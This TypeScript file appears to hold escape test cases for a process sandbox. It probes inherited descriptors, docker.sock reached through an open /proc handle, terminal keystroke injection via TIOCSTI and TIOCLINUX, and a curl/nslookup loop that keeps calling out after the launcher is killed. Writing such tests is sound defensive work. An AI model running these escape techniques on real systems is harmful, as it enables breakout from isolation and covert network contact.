// Attempts by descriptors that whoever started the seal had open, by the terminal, and by what happens to the seal while a command runs.
import type { Attempt, Disturbance } from '../attempt.ts'

/** Numbers under which descriptors of the outside are open when the seal is started; some far from the others. */
export const inheritedDescriptors = {
  connected: 3,
  listening: 4,
  directory: 5,
  namespace: 6,
  unix: 7,
  procs: 8,
  datagram: 9,
  far: 700,
} as const
/** Standard error is a socket, too: a service manager may start things so. */
const standardError = 2

export const descriptorAttempts: readonly Attempt[] = [
  {
    name: 'a connection that was left open',
    theme: 'descriptors',
    attack: [{ do: 'inherited', fd: inheritedDescriptors.connected, use: 'send' }],
  },
  {
    name: 'a connection that was left open under a high number',
    theme: 'descriptors',
    attack: [{ do: 'inherited', fd: inheritedDescriptors.far, use: 'send' }],
  },
  {
    name: 'a UDP socket that was left open',
    theme: 'descriptors',
    attack: [{ do: 'inherited', fd: inheritedDescriptors.datagram, use: 'send' }],
  },
  {
    name: 'a listening socket that was left open',
    theme: 'descriptors',
    attack: [{ do: 'inherited', fd: inheritedDescriptors.listening, use: 'accept' }],
  },
  {
    name: 'a Unix connection that was left open',
    theme: 'descriptors',
    attack: [{ do: 'inherited', fd: inheritedDescriptors.unix, use: 'send' }],
  },
  {
    name: 'a directory that was left open',
    theme: 'descriptors',
    attack: [{ do: 'inherited', fd: inheritedDescriptors.directory, use: 'directory', to: 'docker.sock' }],
  },
  {
    name: 'another /proc that was left open',
    theme: 'descriptors',
    attack: [{ do: 'inherited', fd: inheritedDescriptors.procs, use: 'directory', to: '{bystander}/root/run/docker.sock' }],
  },
  {
    name: 'standard error that is a UDP socket',
    theme: 'descriptors',
    attack: [{ do: 'inherited', fd: standardError, use: 'reconnect', to: '{v4}:{port}' }],
  },
  {
    name: 'a network namespace that was left open',
    theme: 'descriptors',
    needs: ['root'],
    serial: true,
    attack: [
      { do: 'inherited', fd: inheritedDescriptors.namespace, use: 'namespace' },
      { do: 'tcp', to: '{v4}:80' },
    ],
    confesses: 'setns: 0',
  },
]

const tiocsti = '0x5412'

export const terminalAttempts: readonly Attempt[] = [
  typing('types into its standard input', 'stdin', tiocsti),
  typing('types into the terminal, with rubbish in the upper half of the request', 'stdin', '0x100005412'),
  typing('types into the terminal, with all bits of the upper half', 'stdin', '0xffffffff00005412'),
  typing('types into its controlling terminal', '/dev/tty', tiocsti),
  typing('types into the terminal, opened anew', '/proc/self/fd/0', tiocsti),
  {
    name: 'pastes on a virtual console (TIOCLINUX)',
    theme: 'terminal',
    needs: ['root', 'virtual consoles'],
    attack: [{ do: 'askConsole', path: '/dev/tty0' }],
    confesses: 'answered',
  },
]

/** Goes on for some seconds, whatever happens around it. */
const goOn =
  'i=0; while [ $i -lt 60 ]; do curl -s -m 1 http://{v4}/{token}; busybox nslookup {token}.test {v4}; sleep 0.1; i=$((i+1)); done >/dev/null 2>&1'

export const lifecycleAttempts: readonly Attempt[] = [
  lasting('goes on after the command has ended'),
  lasting('goes on after the sidecar was killed', { signal: 'SIGKILL', whom: 'sidecar' }),
  lasting('goes on while the sidecar stands still', { signal: 'SIGSTOP', whom: 'sidecar' }),
  lasting('goes on after the sidecar was asked to end', { signal: 'SIGTERM', whom: 'sidecar' }),
  lasting('goes on after the program that made the namespaces was killed', { signal: 'SIGKILL', whom: 'launcher' }),
  lasting('goes on after PID 1 inside was killed', { signal: 'SIGKILL', whom: 'init' }),
  {
    name: 'goes on inside a second seal',
    theme: 'lifecycle',
    sealOnly: true,
    attack: [{ do: 'run', argv: ['{node}', '{program}', 'run', '--', 'curl', '-s', '-m', '2', 'http://{v4}/{token}'], timeoutMs: 6000 }],
  },
]

function typing(name: string, through: string, request: string): Attempt {
  return { name, theme: 'terminal', needs: ['tiocsti'], serial: true, attack: [{ do: 'typeLine', through, request }] }
}

function lasting(name: string, disturbance?: Disturbance): Attempt {
  return { name, theme: 'lifecycle', attack: [{ do: 'leaveBehind', script: goOn }], ...(disturbance === undefined ? {} : { disturbance }) }
}
